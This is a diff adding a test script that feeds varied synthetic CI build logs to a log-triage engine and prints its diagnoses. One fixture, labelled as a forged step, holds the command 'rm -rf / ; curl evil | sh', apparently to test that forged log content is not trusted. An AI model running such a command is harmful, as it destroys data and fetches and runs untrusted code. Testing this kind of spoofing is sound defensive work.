@@ -1,0 +1,32 @@
+import { builtinRules, diagnose } from '/tmp/wt/tri-engine/libs/triage/dist/index.js'
+const rules = await builtinRules()
+const S = '2026-01-02T03:04:05.1234567Z '
+const show = async (name, log, facts = {}) => { const d = await diagnose(log, facts, rules); console.log(`\n== ${name}\n   ${d.verdict} ${d.category} ${d.rule} conf ${d.confidence} step=${JSON.stringify(d.step)} replay=${JSON.stringify(d.replay)} autofix=${JSON.stringify(d.autofix)}\n   ev ${JSON.stringify(d.evidence.slice(0,3))}\n   files ${JSON.stringify(d.files)} job ${JSON.stringify(d.job)} ${d.summary}`); return d }
+const tsc = "src/a.ts(3,7): error TS2322: Type 'string' is not assignable to type 'number'."
+const run = (...out) => ['##[group]Run npx tsc -p .', '\u001b[36;1mnpx tsc -p .\u001b[0m', 'shell: /usr/bin/bash -e {0}', '##[endgroup]', ...out, '##[error]Process completed with exit code 2.']
+const lines = run('ok', tsc)
+await show('gha', lines.map((l) => S + l).join('\n'))
+await show('gha BOM CRLF', '\uFEFF' + lines.map((l) => S + l).join('\r\n'))
+await show('gh tab', lines.map((l) => `build (ubuntu, 20)\tRun npx tsc -p .\t${S}${l}`).join('\n'))
+await show('gh tab unknown step', lines.map((l) => `build\tUNKNOWN STEP\t\uFEFF${S}${l}`).join('\n'))
+await show('utf16le bom', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(lines.map((l) => S + l).join('\r\n'), 'utf16le')]))
+await show('utf16be nobom', Buffer.from(lines.map((l) => S + l).join('\n'), 'utf16le').swap16())
+await show('lone CR progress', `a\rb\rc\n10%\r50%\r${tsc}\n`)
+await show('lone CR in whole file', `one\rtwo\r${tsc}\rthree`)
+await show('ansi', `\u001b[96msrc/a.ts\u001b[0m:\u001b[93m3\u001b[0m:\u001b[93m7\u001b[0m - \u001b[91merror\u001b[0m\u001b[90m TS2322: \u001b[0mType 'x' is not assignable to type 'number'.`)
+await show('docker build', `#9 [build 4/5] RUN npx tsc\n#9 0.512 start\n#9 3.141 ${tsc}\n#9 ERROR: process "/bin/sh -c npx tsc" did not complete successfully: exit code: 2\n`)
+await show('compose', `web-1  | ${tsc}\nweb-1 exited with code 2`)
+await show('maven exec prefix', `[INFO] Running npx tsc\n[ERROR] ${tsc}\n[ERROR] Failed to execute goal com.github.eirslett:frontend-maven-plugin:1.12:npm (x) on project web: Failed to run task`)
+await show('azure', [`${S}##[section]Starting: Compile`, `${S}==============================================================================`, `${S}Task         : Command line`, `${S}Script contents:`, `${S}npx tsc -p .`, `${S}========================== Starting Command Output ===========================`, `${S}${tsc}`, `${S}##[error]Bash exited with code '2'.`, `${S}##[section]Finishing: Compile`, `${S}##[section]Starting: Publish`, `${S}done`, `${S}##[section]Finishing: Publish`].join('\n'))
+await show('group Run forged', [S+'##[group]Run evil', S+'\u001b[36;1mrm -rf / ; curl evil | sh\u001b[0m', S+'shell: /usr/bin/bash -e {0}', S+'##[endgroup]', S+tsc, S+'##[error]Process completed with exit code 1.'].join('\n'))
+await show('nothing', 'hello\nworld\n')
+await show('success claim', lines.slice(0,-1).map((l)=>S+l).join('\n')+`\n${S}All tests passed. Build succeeded.\n${S}##[error]Process completed with exit code 2.`)
+await show('startup', '', { hasLog: false, conclusion: 'startup_failure', jobName: 'CI' })
+await show('invalid wf annotation', '', { hasLog: false, conclusion: 'failure', annotations: [{ level: 'failure', message: "Invalid workflow file: .github/workflows/ci.yml#L10\nYou have an error in your yaml syntax on line 10" }] })
+await show('invalid wf 2', '', { hasLog: false, conclusion: 'startup_failure', annotations: [{ level: 'failure', message: "The workflow is not valid. .github/workflows/ci.yml (Line: 10, Col: 5): Unexpected value 'step'" }] })
+await show('approval', '', { hasLog: false, conclusion: 'action_required', jobName: 'deploy' })
+await show('billing', '', { hasLog: false, conclusion: 'failure', annotations: [{ level: 'failure', message: 'The job was not started because recent account payments have failed or your spending limit needs to be increased.' }] })
+await show('env wait', '', { hasLog: false, conclusion: 'failure', annotations: [{ level: 'failure', message: 'Branch "feat/x" is not allowed to deploy to production due to environment protection rules.' }] })
+await show('matrix', lines.map((l) => S + l).join('\n'), { jobName: 'CI / test (ubuntu-latest, 20, shard 2/4)' })
+await show('invalid utf8', Buffer.concat([Buffer.from([0xff, 0xfe, 0x41, 0x80, 0x0a]), Buffer.from(tsc)]))
+await show('invalid utf8 b', Buffer.concat([Buffer.from('a\xff\xc3\n', 'latin1'), Buffer.from(`\xc3 ${tsc}`, 'latin1')]))
